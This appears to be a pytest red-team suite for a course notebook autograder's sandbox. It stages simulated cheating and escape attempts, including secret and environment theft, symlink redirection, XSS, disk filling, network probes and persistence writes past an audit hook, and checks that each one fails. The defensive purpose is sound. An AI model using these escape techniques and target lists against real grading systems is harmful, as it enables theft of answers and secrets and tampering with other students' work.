        self.abstract_name = f"dlcourse-redteam-{uuid.uuid4().hex[:8]}"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + self.abstract_name)
        self.unix.listen(16)
        self.stop = False
        for sock in (self.tcp, self.udp, self.unix):
            sock.settimeout(0.5)
            threading.Thread(target=self._serve, args=(sock,), daemon=True).start()

    @property
    def port(self):
        return self.tcp.getsockname()[1]

    @property
    def udp_port(self):
        return self.udp.getsockname()[1]

    def _serve(self, sock):
        while not self.stop:
            try:
                if sock.type == socket.SOCK_DGRAM:
                    data, _ = sock.recvfrom(1000)
                    self.hits.append(f"udp: {data[:60]!r}")
                else:
                    conn, _ = sock.accept()
                    conn.settimeout(1)
                    try:
                        data = conn.recv(1000)
                    except OSError:
                        data = b""
                    self.hits.append(f"{sock.family.name}: {data[:60]!r}")
                    conn.close()
            except (socket.timeout, OSError):
                continue

    def close(self):
        self.stop = True
        time.sleep(0.6)
        for sock in (self.tcp, self.udp, self.unix):
            sock.close()


def _reference_file(module: str) -> str:
    return str(Path(importlib.util.find_spec(module).origin).resolve())


def _distinctive_lines(path: str, exclude_text: str) -> list[str]:
    """Lines of a reference module that nothing a student submits contains."""
    lines = {l.strip() for l in Path(path).read_text().splitlines()}
    return sorted(l for l in lines if len(l) >= 25 and l not in exclude_text)


@pytest.fixture(scope="module")
def main_run(tmp_path_factory, root):
    top = tmp_path_factory.mktemp("redteam")
    base = top / "Fall 2026"          # a space in every path the grader handles
    submitted, out = base / "submitted", base / "out"
    out.mkdir(parents=True)
    canary_beside = base / "canary-beside.txt"
    canary_beside.write_text(f"CANARY-BESIDE-{MARK}")
    canary_out = out / "canary-out.txt"
    canary_out.write_text(f"CANARY-OUT-{MARK}")
    canary_perm = base / "perm-canary.txt"
    canary_perm.write_text("mode 0600")
    os.chmod(canary_perm, 0o600)
    secret = top / "grading-secret"
    secret_value = uuid.uuid4().hex + uuid.uuid4().hex
    secret.write_text(secret_value + "\n")
    env_value = f"secret-xyz-{MARK}"

    source_path = root / "source" / W / f"{W}.ipynb"
    source = nbs.read(source_path)
    sol_pkg = Path(importlib.util.find_spec("dlcourse_solutions").origin).resolve().parent
    ref_w01, ref_w09 = _reference_file(f"dlcourse_solutions.{W}"), _reference_file("dlcourse_solutions.w09_cnn")
    finder = [str(p) for p in Path(site.getsitepackages()[0]).glob("__editable__*solutions*")]
    site_dir = str(Path(site.getsitepackages()[0]).resolve())
    home = str(Path.home())
    prefixes = sorted({str(Path(sys.prefix).resolve()), str(Path(sys.base_prefix).resolve())})
    listeners = Listeners()

    honest_nb = {s: _write(submitted, s, _honest(source, s)) for s in (*HONEST, VICTIM_K, VICTIM_R, FORMULA)}
    classmate_nb = str(honest_nb["z-honest"])
    rival_result = str(out / ".results" / W / "a0-honest.json")
    students = ["a0-honest", "n-honest", "z-honest", VICTIM_K, VICTIM_R, FORMULA]

    def put(student, exercise, code, extra=None):
        nb = with_function(source, W, exercise, code)
        if extra:
            nb = _with_cells(nb, *extra)
        students.append(student)
        return _write(submitted, student, nb)

    attackers = {
        "m-solutions": ("softmax", A_SOLUTIONS),
        "m-fs-walk": ("normalize_rows", A_FSWALK),
        "m-env": ("L1", A_ENV),
        "m-proc": ("image2vector", A_PROC),
        "m-takeover": ("L2", A_TAKEOVER),
        "m-kill": ("L1", A_KILL),
        "m-hidden-write": ("normalize_rows", A_HIDDEN_WRITE),
        "m-steal-expected": ("softmax", A_STEAL),
        "m-fill-disk": ("L2", A_FILL),
        "m-background": ("L2", A_BACKGROUND),
        "m-sysmodules": ("L1", A_SYSMODULES),
        "m-network": ("image2vector", A_NETWORK),
        "m-results-rival": ("L2", A_RESULTS),
        "m-clobber-kernel": ("sigmoid", A_CLOBBER_KERNEL),
        "m-clobber-recheck": ("sigmoid", A_CLOBBER_RECHECK),
    }
    all_students = sorted(set(students) | set(attackers) | {"m-xss", "m-symlinks", "m-nb-is-link", "m-week-link"})
    forbidden = sorted({*all_students, "submitted", "gradebook.db", ".sandbox.json", "feedback", "source",
                        "release", ".results", ".cache", ".work", "grades.csv", "lms.csv", "solutions_pkg", "tests",
                        ".git", "nbgrader_config.py", "canary-beside.txt", "canary-out.txt", "perm-canary.txt",
                        "grading-secret", "dlcourse_solutions"})
    write_targets = [str(root / "autograder" / f"{PWN_NAME}.py"), str(root / "course" / f"{PWN_NAME}.py"),
                     str(Path(site_dir) / f"{PWN_NAME}.pth"), f"/usr/lib/{PWN_NAME}", f"/{PWN_NAME}",
                     f"/etc/{PWN_NAME}", f"/grading/hidden/{PWN_NAME}", str(submitted / PWN_NAME),
                     str(out / PWN_NAME), str(base / PWN_NAME), str(Path(prefixes[0]) / PWN_NAME)]
    values = dict(
        REF_FILES=[ref_w09, ref_w01, str(sol_pkg), *finder], SOL_PKG=str(sol_pkg.parent), REPO=str(root),
        FORBIDDEN=forbidden, PREFIXES=prefixes,
        LIST_DIRS=["/", str(root), str(base), str(submitted), str(out), home, "/tmp", "/work", "/home", "/grading"],
        MUST_NOT_EXIST=[str(root / "source"), str(source_path), str(root / "tests"), str(root / "solutions_pkg"),
                        str(root / ".git"), str(root / "README.md"), str(root / "nbgrader_config.py"),
                        str(submitted), classmate_nb, str(canary_beside), str(canary_out), str(secret), rival_result],
        MUST_NOT_EXIST_NO_READ=[str(Path(home) / n) for n in sorted(os.listdir(home)) if n != ".pyenv"],
        WRITE_TARGETS=write_targets + [classmate_nb], CLASSMATE=classmate_nb,
        ENV_KEYS=["DLCOURSE_CANARY_ENV", "DLCOURSE_SECRET_FILE", "DLCOURSE_ROOT", "DLCOURSE_JAIL_TOKEN",
                  "DLCOURSE_SANDBOX_SPEC", "DLCOURSE_TEST_OUT", "VIRTUAL_ENV", "JUPYTER_PATH", "SSH_AUTH_SOCK",
                  "USER", "LOGNAME", "OLDPWD", "PYTEST_CURRENT_TEST", "PYTEST_XDIST_WORKER"],
        SECRET=str(secret), HOME=home, SUBMITTED=str(submitted), OUT=str(out), CANARY_BESIDE=str(canary_beside),
        CANARY_OUT=str(canary_out), CANARY_PERM=str(canary_perm), PORT=listeners.port,
        UDP_PORT=listeners.udp_port, ABSTRACT=listeners.abstract_name,
        RIVAL_FILES=[rival_result, str(out / "grades.csv"), str(out / "lms.csv"),
                     str(out / "feedback" / "a0-honest" / W / f"{W}.html")],
        OTHER_STUDENTS=[],
    )
    for student, (exercise, code) in attackers.items():
        v = dict(values, OTHER_STUDENTS=[s for s in all_students if s != student])
        if student == "m-clobber-kernel":
            v["VICTIM_NB"] = str(honest_nb[VICTIM_K])
        if student == "m-clobber-recheck":
            v["VICTIM_NB"] = str(honest_nb[VICTIM_R])
        put(student, exercise, attack(code, **v))
    # feedback pages: student HTML, JavaScript and markdown; a re-check reason that is HTML
    put("m-xss", "L2", XSS_L2, extra=("setup", [nbformat.v4.new_code_cell(XSS_CELL),
                                                 nbformat.v4.new_markdown_cell(XSS_MARKDOWN)]))
    # links, a fifo and a nested link inside a submission folder
    folder = put("m-symlinks", "softmax", attack(A_LINKS)).parent
    for name, target in {"ref.py": ref_w01, "w09.py": ref_w09, "source.ipynb": str(source_path),
                         "hostname": "/etc/hostname", "classmate.ipynb": classmate_nb,
                         "dangling": "/nonexistent/dlcourse-redteam", "solutions": str(sol_pkg)}.items():
        os.symlink(target, folder / name)
    os.mkfifo(folder / "fifo")
    (folder / "data").mkdir()
    (folder / "data" / "ok.txt").write_text("a regular file")
    os.symlink(ref_w01, folder / "data" / "inner.py")
    # the notebook itself a link to the source notebook (the full solution)
    (submitted / "m-nb-is-link" / W).mkdir(parents=True)
    os.symlink(source_path, submitted / "m-nb-is-link" / W / f"{W}.ipynb")
    students.append("m-nb-is-link")
    # the week folder a link to a classmate's; the student folder a link to a classmate's
    (submitted / "m-week-link").mkdir()
    os.symlink(submitted / "z-honest" / W, submitted / "m-week-link" / W)
    students.append("m-week-link")
    os.symlink(submitted / "z-honest", submitted / "m-student-link")

    before = _files_hashes(submitted)
    source_hash = hashlib.sha256(source_path.read_bytes()).hexdigest()
    saved = {k: os.environ.get(k) for k in ("DLCOURSE_CANARY_ENV", "DLCOURSE_SECRET_FILE")}
    os.environ["DLCOURSE_CANARY_ENV"] = env_value
    os.environ["DLCOURSE_SECRET_FILE"] = str(secret)
    t0 = time.perf_counter()
    try:
        grades = grade_submissions(submitted, out, [W], root, workers=2, limits=Limits(**LIMITS),
                                   secret_file=secret)
    finally:
        seconds = time.perf_counter() - t0
        for k, v in saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v
        listeners.close()
    created = [p for p in write_targets if os.path.lexists(p)]
    for p in created:   # never leave a planted file in the repository or the system
        if os.path.isfile(p) and PWN_NAME in p:
            os.remove(p)
    page = {}
    for g in grades:
        f = out / "feedback" / g.student / W / f"{W}.html"
        page[g.student] = f.read_text(errors="replace") if f.is_file() else None
    submitted_text = []
    for p in submitted.glob(f"*/{W}/{W}.ipynb"):
        try:
            submitted_text += [c.source for c in nbs.read(p).cells]
        except Exception:   # a notebook an attack overwrote
            continue
    submitted_text = "\n".join(submitted_text)
    reference_lines = {
        "w09": _distinctive_lines(ref_w09, submitted_text),
        "w01": _distinctive_lines(ref_w01, submitted_text),
    }
    run = SimpleNamespace(
        grades={g.student: g for g in grades}, page=page, out=out, base=base, submitted=submitted,
        before=before, after=_files_hashes(submitted), source_path=source_path, source_hash=source_hash,
        canary_beside=canary_beside, canary_out=canary_out, canary_perm=canary_perm, secret_value=secret_value,
        env_value=env_value, listeners=listeners, seconds=seconds, created=created, honest_nb=honest_nb,
        reference_lines=reference_lines, all_students=all_students)
    print(f"\n[redteam] graded {len(grades)} submissions in {seconds:.0f} s")
    for g in grades:
        print(f"[redteam]   {g.student:20s} {g.total:5g}/{g.max_total:g} {g.seconds:6.1f} s  flags={len(g.flags)}")
    return run


# ============================================================================ honest students
@pytest.mark.parametrize("student", HONEST)
def test_honest_students_keep_every_point(main_run, student):
    g = main_run.grades[student]
    assert g.total == FULL, (g.scores, g.recheck, g.failures, g.notes)
    assert not g.flags, g.flags
    assert g.isolation == "bubblewrap sandbox"


def test_class_runs_in_a_folder_with_a_space(main_run):
    assert " " in str(main_run.submitted)
    # every submission got a row, except the student folder that is a link (never graded)
    assert set(main_run.grades) == set(main_run.all_students) - {"m-student-link"}
    assert "m-student-link" not in main_run.grades
    assert not any(f.startswith("internal error") for g in main_run.grades.values() for f in g.flags)


def test_grading_time_is_bounded(main_run):
    assert main_run.seconds < 180, main_run.seconds


def test_csv_exports_hold_no_formula(main_run):
    import csv
    assert main_run.grades[FORMULA].total == FULL
    for name in ("grades.csv", "lms.csv"):
        rows = list(csv.reader((main_run.out / name).open(newline="")))
        cells = [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert not cells, f"{name} has cells a spreadsheet runs as formulas: {cells[:5]}"
        assert any(FORMULA in c for row in rows for c in row), f"the student is in {name}"


# ============================================================================ 1. the reference
def test_reference_cannot_be_imported_found_or_read(main_run):
    g, page = main_run.grades["m-solutions"], main_run.page["m-solutions"]
    assert kernel_report(page, "solutions") == [], kernel_info(page, "solutions")
    assert recheck_report(g, "softmax", "solutions") == [], g.recheck[ex("softmax")]
    assert zeroed(g) == {ex("softmax")} and g.total == FULL - POINTS[ex("softmax")], (g.scores, g.recheck)


def test_no_reference_text_in_any_feedback(main_run):
    assert len(main_run.reference_lines["w09"]) > 20 and main_run.reference_lines["w01"], main_run.reference_lines
    for student, page in main_run.page.items():
        text = html_lib.unescape(page or "")
        for which, lines in main_run.reference_lines.items():
            leaked = [l for l in lines if l in text]
            assert not leaked, f"{student}'s feedback holds {len(leaked)} lines of the {which} reference: {leaked[:3]}"


# ============================================================================ 2. file system
def _split(report):
    """(leaks, writable Python folders) of the file-system walk's report."""
    if report is None:
        return None, None
    return [x for x in report if not x.startswith("PY:")], [x for x in report if x.startswith("PY:")]


def test_file_system_walk_finds_nothing(main_run):
    g, page = main_run.grades["m-fs-walk"], main_run.page["m-fs-walk"]
    assert _split(kernel_report(page, "fswalk"))[0] == [], kernel_info(page, "fswalk").get("parents")
    assert _split(recheck_report(g, "normalize_rows", "fswalk"))[0] == [], g.recheck[ex("normalize_rows")]
    assert zeroed(g) == {ex("normalize_rows")} and g.total == FULL - POINTS[ex("normalize_rows")]


def test_python_installation_is_read_only_in_the_sandboxes(main_run):
    """site-packages is a tmpfs with the allowed packages bound back in: it must be read-only too."""
    g, page = main_run.grades["m-fs-walk"], main_run.page["m-fs-walk"]
    assert _split(kernel_report(page, "fswalk"))[1] == [], "in nbgrader's kernel"
    assert _split(recheck_report(g, "normalize_rows", "fswalk"))[1] == [], "in the re-check (past its audit hook)"


def test_nothing_was_written_outside_the_sandboxes(main_run):
    assert not main_run.created, f"files created by submissions: {main_run.created}"
    assert main_run.canary_beside.read_text() == f"CANARY-BESIDE-{MARK}"
    assert main_run.canary_out.read_text() == f"CANARY-OUT-{MARK}"
    assert hashlib.sha256(main_run.source_path.read_bytes()).hexdigest() == main_run.source_hash


def test_no_canary_or_classmate_text_in_any_feedback(main_run):
    secrets_ = {"canary beside the class": f"CANARY-BESIDE-{MARK}", "canary in out/": f"CANARY-OUT-{MARK}",
                "instructor env var": main_run.env_value, "grading secret": main_run.secret_value}
    for student, page in main_run.page.items():
        text = html_lib.unescape(page or "")
        for what, value in secrets_.items():
            assert value not in text, f"{student}'s feedback shows the {what}"
        others = re.findall(rf"HONEST-MARK-{MARK}-([\w-]+)", text)
        assert set(others) <= {student}, f"{student}'s feedback shows the notebook of {set(others) - {student}}"


# ============================================================================ 3. environment
def test_instructor_environment_is_not_visible(main_run):
    g, page = main_run.grades["m-env"], main_run.page["m-env"]
    assert kernel_report(page, "env") == [], kernel_info(page, "env")
    assert recheck_report(g, "L1", "env") == [], g.recheck[ex("L1")]
    assert zeroed(g) == {ex("L1")}


def test_proc_shows_no_classmate_and_no_capabilities(main_run):
    g, page = main_run.grades["m-proc"], main_run.page["m-proc"]
    info = kernel_info(page, "proc")
    print("kernel /proc view reveals the host path of the output folder:", info.get("reveals the output folder"))
    assert kernel_report(page, "proc") == [], info
    assert recheck_report(g, "image2vector", "proc") == [], g.recheck[ex("image2vector")]
    assert zeroed(g) == {ex("image2vector")}


# ============================================================================ 6. links in a submission
def test_links_and_fifos_in_a_submission_are_left_out(main_run):
    g, page = main_run.grades["m-symlinks"], main_run.page["m-symlinks"]
    notes = " ".join(g.notes)
    for name in ("ref.py", "w09.py", "source.ipynb", "hostname", "classmate.ipynb", "dangling", "fifo",
                 "solutions", "data/inner.py"):
        assert name in notes, (name, g.notes)
    assert kernel_report(page, "links") == [], kernel_info(page, "links")
    info = kernel_info(page, "links")
    assert info.get("exists data/ok.txt") is True, "the regular file of the submission is there"
    assert recheck_report(g, "softmax", "links") == [], g.recheck[ex("softmax")]
    assert zeroed(g) == {ex("softmax")} and g.total == FULL - POINTS[ex("softmax")] and not g.flags, (g.scores, g.flags)


def test_notebook_that_is_a_link_to_the_source_scores_nothing(main_run):
    g = main_run.grades["m-nb-is-link"]
    assert g.total == 0 and any("no w01_numpy_basics.ipynb" in f for f in g.flags), (g.flags, g.notes)
    assert any("symbolic link" in n for n in g.notes), g.notes


def test_week_folder_link_to_a_classmate_scores_nothing(main_run):
    g = main_run.grades["m-week-link"]
    assert g.total == 0 and any("symbolic link" in f for f in g.flags), g.flags


# ============================================================================ 7. taking over the re-check
def test_recheck_takeover_through_descriptors_and_exit(main_run):
    g, page = main_run.grades["m-takeover"], main_run.page["m-takeover"]
    assert recheck_report(g, "L2", "takeover") == [], g.recheck[ex("L2")]
    if page is not None:
        assert kernel_report(page, "takeover") in ([], None), kernel_info(page, "takeover")
    assert ex("L2") in zeroed(g) and g.total <= FULL - POINTS[ex("L2")], (g.scores, g.recheck)
    assert g.scores["test_" + ex("L2")] == 0


def test_kill_and_fork_hurt_only_the_attacker(main_run):
    g = main_run.grades["m-kill"]
    assert g.scores["test_" + ex("L1")] == 0 and g.total <= FULL - POINTS[ex("L1")], (g.scores, g.recheck, g.flags)


def test_background_processes_do_not_survive(main_run):
    g = main_run.grades["m-background"]
    assert g.scores["test_" + ex("L2")] == 0
    left = subprocess.run(["pgrep", "-f", "sleep 91[3-6]"], capture_output=True, text=True).stdout.split()
    assert not left, "processes started by a submission survived grading"


# ============================================================================ 8. feedback pages
def test_feedback_page_runs_no_student_script(main_run):
    page = main_run.page["m-xss"]
    assert page is not None, main_run.grades["m-xss"].flags
    assert re.search(r"output_html[^>]*>\s*(<[^>]+>\s*)*(&lt;b&gt;|<b>)isolated", page), "the HTML outputs are in the page"
    assert re.search(r"<h2[^>]*>\s*(<[^>]+>\s*)*notes", page), "the student's markdown cell is in the page"
    found = active_content(page)
    assert not found, f"active student content in the feedback page: {found}"


def test_instructor_report_escapes_student_text(main_run):
    write_report = _first("autograder.grader.report:write_report", "autograder.report:write_report")
    g = main_run.grades["m-xss"]
    assert g.scores["test_" + ex("L2")] == 0 and any(f"{ex('L2')}: passed nbgrader" in f for f in g.flags), \
        (g.flags, g.recheck)
    page = write_report(list(main_run.grades.values()), main_run.out).read_text()
    assert "al" + "ert(12)" in page, "the student's text is in the report (escaped)"
    assert not active_content(page), active_content(page)


# ============================================================================ own: hidden cases
def test_hidden_cases_are_read_only(main_run):
    g, page = main_run.grades["m-hidden-write"], main_run.page["m-hidden-write"]
    assert kernel_report(page, "hiddenwrite") == [], kernel_info(page, "hiddenwrite")
    assert recheck_report(g, "normalize_rows", "hiddenwrite") == [], g.recheck[ex("normalize_rows")]
    assert zeroed(g) == {ex("normalize_rows")}
    if g.nbgrader_scores.get("test_" + ex("normalize_rows"), 0) > 0:
        assert any(f.startswith(f"{ex('normalize_rows')}: passed nbgrader") for f in g.flags), g.flags


def test_stolen_expected_answers_score_nothing_and_are_flagged(main_run):
    g, page = main_run.grades["m-steal-expected"], main_run.page["m-steal-expected"]
    assert kernel_info(page, "steal").get("stolen answers", 0) > 0, "the kernel can read its own answers (by design)"
    assert kernel_report(page, "steal") == [], "only this submission's cases are in /grading/hidden"
    assert recheck_report(g, "softmax", "steal") == [], g.recheck[ex("softmax")]
    assert g.nbgrader_scores["test_softmax"] == 3, "the stolen answers fooled nbgrader's kernel"
    assert zeroed(g) == {ex("softmax")} and g.total == FULL - POINTS[ex("softmax")]
    assert any(f.startswith("softmax: passed nbgrader's tests in the kernel") for f in g.flags), g.flags


def test_poisoned_engine_in_sys_modules_scores_nothing_and_is_flagged(main_run):
    g = main_run.grades["m-sysmodules"]
    assert g.nbgrader_scores["test_" + ex("L1")] == POINTS[ex("L1")], "the poisoned verify fooled nbgrader's kernel"
    assert zeroed(g) == {ex("L1")} and g.total == FULL - POINTS[ex("L1")], (g.scores, g.recheck)
    assert any(f.startswith(f"{ex('L1')}: passed nbgrader's tests in the kernel") for f in g.flags), g.flags


# ============================================================================ own: disk, network, rivals
def _fill_numbers(report) -> dict:
    return {k: int(v) for k, v in (item.split(":") for item in report or [])}


def test_filling_tmp_and_home_stops_at_their_size(main_run):
    g, page = main_run.grades["m-fill-disk"], main_run.page["m-fill-disk"]
    kernel = _fill_numbers(kernel_report(page, "fill"))
    recheck = _fill_numbers(recheck_report(g, "L2", "fill"))
    assert kernel and recheck, (kernel_info(page, "fill"), g.recheck[ex("L2")])
    for where, numbers in (("kernel", kernel), ("re-check", recheck)):
        assert numbers["tmp"] <= 256 * 2**20 and numbers["home"] <= 256 * 2**20, (where, numbers)
    assert g.scores["test_" + ex("L2")] == 0


def test_no_sandbox_folder_takes_unbounded_memory(main_run):
    """tmpfs pages are not counted by RLIMIT_AS: every writable tmpfs needs a size."""
    g, page = main_run.grades["m-fill-disk"], main_run.page["m-fill-disk"]
    kernel = _fill_numbers(kernel_report(page, "fill"))
    recheck = _fill_numbers(recheck_report(g, "L2", "fill"))
    big = {f"{where} {k}": f"{v / 2**20:.0f} MB" for where, numbers in (("kernel", kernel), ("re-check", recheck))
           for k, v in numbers.items() if k in ("devshm", "site") and v > 256 * 2**20}
    assert not big, f"written into memory-backed folders without a size limit: {big}"


def test_no_network_from_any_sandbox(main_run):
    g, page = main_run.grades["m-network"], main_run.page["m-network"]
    assert not main_run.listeners.hits, main_run.listeners.hits
    assert kernel_report(page, "network") == [], kernel_info(page, "network")
    assert recheck_report(g, "image2vector", "network") == [], g.recheck[ex("image2vector")]


def test_rival_results_cannot_be_reached(main_run):
    g, page = main_run.grades["m-results-rival"], main_run.page["m-results-rival"]
    assert kernel_report(page, "results") == [], kernel_info(page, "results")
    assert recheck_report(g, "L2", "results") == [], g.recheck[ex("L2")]
    stored = {x.student: x for x in load_results(main_run.out)}
    assert stored["a0-honest"].total == FULL and stored["a0-honest"].scores == main_run.grades["a0-honest"].scores
    rival_page = main_run.page["a0-honest"] or ""
    assert f"HONEST-MARK-{MARK}-a0-honest" in html_lib.unescape(rival_page), "the rival's feedback is its own"
    assert main_run.canary_out.read_text() == f"CANARY-OUT-{MARK}"
    assert g.scores["test_" + ex("L2")] == 0


def test_submitted_files_of_the_class_are_untouched(main_run):
    victims = {str(main_run.honest_nb[VICTIM_K]), str(main_run.honest_nb[VICTIM_R])}
    changed = [p for p, h in main_run.before.items() if main_run.after.get(p) != h and p not in victims]
    assert not changed, changed


# ============================================================================ holes: the trusted side follows links
def test_kernel_link_does_not_redirect_nbgraders_writes(main_run):
    """The kernel replaces its autograded notebook with a link to a classmate's submitted
    notebook: nbgrader (outside the sandbox) then writes the attacker's notebook there."""
    victim = str(main_run.honest_nb[VICTIM_K])
    g = main_run.grades[VICTIM_K]
    assert main_run.after[victim] == main_run.before[victim], \
        f"{VICTIM_K}'s submitted notebook was overwritten by nbgrader through m-clobber-kernel's link"
    assert g.total == FULL and not g.flags, (g.scores, g.failures)
    assert main_run.grades["m-clobber-kernel"].scores["test_" + ex("sigmoid")] == 0


def test_kernel_link_does_not_redirect_nbgraders_chmod(main_run):
    mode = stat.S_IMODE(os.stat(main_run.canary_perm).st_mode)
    assert mode == 0o600, f"nbgrader chmodded a file outside the class through a link: now {oct(mode)}"


def test_recheck_link_does_not_redirect_the_graders_job_file(main_run):
    """The re-check replaces job.json in its box with a link and crashes: the grader writes the
    next attempt's job through it."""
    victim = str(main_run.honest_nb[VICTIM_R])
    assert main_run.after[victim] == main_run.before[victim], \
        f"{VICTIM_R}'s submitted notebook was overwritten with a re-check job through m-clobber-recheck's link"
    assert main_run.grades["m-clobber-recheck"].scores["test_" + ex("sigmoid")] == 0


# ============================================================================ own: one warm re-check process, many students
A_PERSIST = r'''
_places = [os.path.expanduser("~"), "/dev/shm", "/dev", "/tmp", "/mnt", "/"] + [p for p in sys.path if p.endswith("site-packages")]
if not _K:
    _cwd = os.getcwd()
    os.path.realpath = lambda p, *a, **k: _cwd      # past the re-check's audit hook
    for _d in _places:
        try:
            with open(os.path.join(_d, $NAME), "w") as _f:
                _f.write("left by an earlier submission")
            _found.append("wrote " + _d)
        except BaseException:
            pass
_MSG = _emit("persist")

def L1(yhat, y):
    raise ValueError(_MSG)
'''

A_PERSIST_PROBE = r'''
_places = [os.path.expanduser("~"), "/dev/shm", "/dev", "/tmp", "/mnt", "/"] + [p for p in sys.path if p.endswith("site-packages")]
for _d in _places:
    if os.path.exists(os.path.join(_d, $NAME)):
        _found.append("sees what an earlier submission left in " + _d)
_MSG = _emit("probe")

def L1(yhat, y):
    raise ValueError(_MSG)
'''


def test_recheck_children_of_one_zygote_share_nothing_writable(tmp_path, root):
    """The warm re-check process forks one child per submission: what one child writes must
    never be visible to the next (a later student's code must find the sandbox as new)."""
    hidden_cases = _first("autograder.grader.submission:hidden_cases", "autograder.grading:hidden_cases")
    SandboxZygote = _first("autograder.grader.recheck:SandboxZygote", "autograder.recheck:SandboxZygote")
    recheck = _first("autograder.grader.recheck:recheck", "autograder.recheck:recheck")
    submission_seed = _first("autograder.grader.secret:submission_seed", "autograder.secret:submission_seed")
    limits = Limits(**LIMITS)
    source_path = root / "source" / W / f"{W}.ipynb"
    source = nbs.read(source_path)
    exercises = nbs.exercises(source)
    name = f"redteam-left-{MARK}.txt"
    zygote = SandboxZygote(limits)

    def run(student, code):
        folder = tmp_path / student
        folder.mkdir()
        nbs.write(with_function(source, W, "L1", attack(code, NAME=name)), folder / f"{W}.ipynb")
        cases, wants = hidden_cases(W, exercises, submission_seed(b"redteam-" * 4, W, student))
        result = recheck(W, source_path, folder / f"{W}.ipynb", limits, cases, wants, zygote=zygote)
        return SimpleNamespace(recheck={k: {"reason": v.reason} for k, v in result.verdicts.items()}, result=result)
    try:
        first = run("m-persist", A_PERSIST)
        second = run("zz-probe", A_PERSIST_PROBE)
    finally:
        zygote.close()
    wrote = recheck_report(first, "L1", "persist")
    assert wrote is not None, first.recheck[ex("L1")]
    seen = recheck_report(second, "L1", "probe")
    assert seen == [], f"the first child wrote {wrote}; the next student's child {seen}"
    assert not [w for w in wrote if "site-packages" in w], f"the Python installation was writable: {wrote}"


# ============================================================================ 5. the class on its own file system
def _tmpfs_possible() -> str:
    if os.geteuid() != 0:
        return "needs root (mount)"
    if shutil.which("unshare") is None:
        return "needs unshare(1)"
    return ""


@pytest.fixture(scope="module")
def tmpfs_run(tmp_path_factory, root):
    why = _tmpfs_possible()
    if why:
        pytest.skip(why)
    top = tmp_path_factory.mktemp("redteam-fs")
    base = top / "class fs"
    base.mkdir()
    secret = top / "secret"
    secret.write_text(uuid.uuid4().hex * 2)
    submitted = base / "submitted"
    prefixes = sorted({str(Path(sys.prefix).resolve()), str(Path(sys.base_prefix).resolve())})
    students = ["a-honest", "m-rewrite", "m-rewrite-link", "y-victim-k", "y-victim-r", "z-honest"]
    paths = {s: str(submitted / s / W / f"{W}.ipynb") for s in students}
    own_copy = str(base / "out" / ".work" / "subs" / f"{W}__m-rewrite" / "submitted" / "m-rewrite" / W / f"{W}.ipynb")
    source = nbs.read(root / "source" / W / f"{W}.ipynb")
    notebooks = {s: _honest(source, s) for s in ("a-honest", "y-victim-k", "y-victim-r", "z-honest")}
    notebooks["m-rewrite"] = with_function(source, W, "sigmoid", attack(
        A_REWRITE, NOTEBOOKS=[paths[s] for s in students] + [own_copy], PREFIXES=prefixes))
    perm = top / "perm-canary.txt"
    perm.write_text("mode 0600")
    both = attack(A_CLOBBER_KERNEL, VICTIM_NB=paths["y-victim-k"], CANARY_PERM=str(perm)) \
        .replace("def sigmoid(x):\n    return x\n", "") + bake(A_CLOBBER_RECHECK, VICTIM_NB=paths["y-victim-r"])
    notebooks["m-rewrite-link"] = with_function(source, W, "sigmoid", both)
    spec = top / "spec.json"
    spec.write_text(json.dumps({"base": str(base), "week": W, "root": str(root), "secret": str(secret),
                                "limits": LIMITS, "notebooks": {s: nbformat.writes(nb) for s, nb in notebooks.items()}}))
    result = top / "result.json"
    cmd = ["unshare", "--mount", "--propagation", "private", "sh", "-c",
           'mount -t tmpfs -o size=2g tmpfs "$1" && exec "$2" "$3" "$4" "$5"', "sh",
           str(base), sys.executable, str(HERE / "redteam" / "grade_in_tmpfs.py"), str(spec), str(result)]
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=600, cwd=root)
    assert proc.returncode == 0 and result.is_file(), proc.stderr[-3000:]
    data = json.loads(result.read_text())
    data["grades"] = {s: Grade.from_json(g) for s, g in data["grades"].items()}
    data["paths"] = paths
    assert not os.listdir(base), "the tmpfs was private to the grading process"
    return data


def test_tmpfs_class_is_on_its_own_file_system(tmpfs_run):
    assert tmpfs_run["mounted"] and tmpfs_run["dev_class"] != tmpfs_run["dev_outside"]


@pytest.mark.parametrize("student", ["a-honest", "z-honest"])
def test_tmpfs_honest_students_keep_every_point(tmpfs_run, student):
    g = tmpfs_run["grades"][student]
    assert g.total == FULL and not g.flags, (g.scores, g.flags, g.recheck)


def test_tmpfs_rewrites_of_submitted_notebooks_fail(tmpfs_run):
    g, page = tmpfs_run["grades"]["m-rewrite"], tmpfs_run["feedback"]["m-rewrite"]
    assert kernel_report(page, "rewrite") == [], kernel_info(page, "rewrite")
    assert recheck_report(g, "sigmoid", "rewrite") == [], g.recheck[ex("sigmoid")]
    assert g.scores["test_" + ex("sigmoid")] == 0 and g.scores["test_" + ex("sigmoid_derivative")] == 0
    victims = {tmpfs_run["paths"]["y-victim-k"], tmpfs_run["paths"]["y-victim-r"]}
    changed = [p for p, h in tmpfs_run["before"].items() if tmpfs_run["after"].get(p) != h and p not in victims]
    assert not changed, changed


def test_tmpfs_kernel_link_does_not_redirect_nbgraders_writes(tmpfs_run):
    p = tmpfs_run["paths"]["y-victim-k"]
    assert tmpfs_run["after"].get(p) == tmpfs_run["before"][p], "y-victim-k's notebook was overwritten"
    assert tmpfs_run["grades"]["m-rewrite-link"].scores["test_" + ex("sigmoid")] == 0


def test_tmpfs_recheck_link_does_not_redirect_the_graders_job_file(tmpfs_run):
    p = tmpfs_run["paths"]["y-victim-r"]
    assert tmpfs_run["after"].get(p) == tmpfs_run["before"][p], "y-victim-r's notebook was overwritten"


# ============================================================================ last, so that -x runs the rest first
def test_submission_cannot_fill_the_graders_disk(main_run):
    """Whatever a submission can write on the grader's own disk must be capped: the kernel's
    working folder, its connection-file folder (bound in writable, for its ZeroMQ sockets) and
    the re-check's work folder. RLIMIT_FSIZE caps one file, not how many."""
    g, page = main_run.grades["m-fill-disk"], main_run.page["m-fill-disk"]
    kernel = _fill_numbers(kernel_report(page, "fill"))
    recheck = _fill_numbers(recheck_report(g, "L2", "fill"))
    assert kernel.get("cwd", 0) <= 256 * 2**20, f"the kernel wrote {kernel['cwd'] / 2**20:.0f} MB to its cwd"
    assert kernel.get("conn", -1) >= 0, "the attack found the kernel's connection folder"
    assert kernel["conn"] <= 256 * 2**20, \
